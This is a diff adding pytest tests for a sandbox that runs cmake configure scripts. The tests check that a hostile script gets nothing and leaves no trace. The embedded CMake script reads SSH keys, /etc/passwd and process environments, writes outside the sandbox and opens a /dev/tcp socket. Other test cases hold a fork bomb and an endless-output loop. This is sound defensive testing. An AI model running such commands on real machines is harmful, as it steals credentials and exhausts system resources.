@@ -1,6 +1,8 @@
 """A source that cmake configures: what configuring makes is compiled with, remembered, and told from what the source holds."""
 
 import json
+import re
+import socket
 import sys
 from pathlib import Path
 
@@ -12,6 +14,11 @@ from pipeline.enrich.lane.params import LaneParams
 from pipeline.enrich.lane.tools import tool_versions
 
 pytestmark = pytest.mark.usefixtures("sandbox")
+ENVIRONMENT = {
+    *("HOME", "LC_ALL", "PATH", "SOURCE_DATE_EPOCH", "TMPDIR", "TZ", "XDG_CACHE_HOME", "PWD", "OLDPWD", "SHLVL", "_"),
+    *("ZIG_GLOBAL_CACHE_DIR", "ZIG_LOCAL_CACHE_DIR"),
+    *("CC", "CXX", "LANG", "LC_MESSAGES"),  # set by cmake
+}
 BEGIN = "cmake_minimum_required(VERSION 3.20)\nproject(made CXX)\n"
 UNIT = b'#include "made.h"\nint a = MADE + GIVEN;\n'
 
@@ -90,3 +97,58 @@ def test_what_was_configured_is_remembered_until_a_file_of_the_source_changes(tm
     for entry in cache.glob("*.configured"):
         entry.write_bytes(entry.read_bytes().replace(b"MADE 1", b"MADE 2"))
     assert lane_of(script, cache).views != first.views  # a damaged memory is none
+
+
+def test_a_hostile_script_gets_nothing_and_what_it_does_is_gone(tmp_path: Path) -> None:
+    """All that it finds out, it writes into a header that is compiled."""
+    server = socket.create_server(("127.0.0.1", 0))
+    server.setblocking(False)
+    home, outside = Path.home(), tmp_path / "outside"
+    script = f"""
+execute_process(COMMAND sh -c "cat {home}/.ssh/* {home}/.*rc /etc/passwd ~/.ssh/*" OUTPUT_VARIABLE keys ERROR_QUIET)
+execute_process(COMMAND sh -c "env; cat /proc/*/environ" OUTPUT_VARIABLE environment ERROR_QUIET)
+execute_process(COMMAND sh -c "echo x > {outside}; echo x > {home}/x; echo x > /usr/x; umount /tmp; unshare -rm true && echo held"
+  OUTPUT_VARIABLE held ERROR_QUIET)
+file(DOWNLOAD "http://127.0.0.1:{server.getsockname()[1]}/x" "${{CMAKE_BINARY_DIR}}/x.h" TIMEOUT 5 STATUS status)
+execute_process(COMMAND sh -c "exec 3<>/dev/tcp/127.0.0.1/{server.getsockname()[1]} && echo held" OUTPUT_VARIABLE more ERROR_QUIET)
+cmake_host_system_information(RESULT host QUERY HOSTNAME)
+list(GET status 0 code)
+file(WRITE "${{CMAKE_BINARY_DIR}}/made.h" "/* [${{keys}}] [${{held}}${{more}}] [${{host}}] */\\nint status_${{code}};\\n")
+file(APPEND "${{CMAKE_BINARY_DIR}}/made.h" "#define MADE 1\\n")
+file(WRITE "${{CMAKE_BINARY_DIR}}/environment.h" "/* ${{environment}} */")
+add_library(made src/a.cpp)
+target_include_directories(made PRIVATE ${{CMAKE_BINARY_DIR}})
+target_compile_definitions(made PRIVATE GIVEN=1 SEEN="${{keys}}${{held}}${{more}}" HOST="${{host}}")
+"""
+    lane = lane_of(script, tmp_path / "cache")
+    with pytest.raises(BlockingIOError):
+        server.accept()
+    server.close()
+
+    (entry,) = (tmp_path / "cache").glob("*.configured")
+    made = json.loads(entry.read_text())["files"]
+    assert lane.view("src/a.cpp").is_seen
+    assert made["build/made.h"].splitlines()[0] == "/* [] [] [sluice] */"
+    assert "status_0;" not in made["build/made.h"]
+    assert set(re.findall(r"^\W*(\w+)=", made["build/environment.h"], re.MULTILINE)) <= ENVIRONMENT
+    assert not outside.exists()
+    assert not Path(home, "x").exists()
+
+
+@pytest.mark.parametrize(
+    ("script", "failure"),
+    [
+        ('execute_process(COMMAND sh -c "bomb() { bomb | bomb & }; bomb; sleep 60")\n', "too_many_processes"),
+        (
+            'execute_process(COMMAND sh -c "while true; do echo endless endless endless endless; done")\n',
+            "endless_output",
+        ),
+        ('execute_process(COMMAND truncate -s 3G "${CMAKE_BINARY_DIR}/x" COMMAND_ERROR_IS_FATAL ANY)\n', "failed"),
+    ],
+)
+def test_a_script_without_end_costs_its_lane_and_says_so(script: str, failure: str) -> None:
+    lane = lane_of(script)
+
+    assert lane.view("src/a.cpp").detail == f"tool_failed: {failure}"
+    assert f"({failure})" in lane.notes[0]
+    assert lane.counts[f"num_lanes_failed_{failure}"] == 1
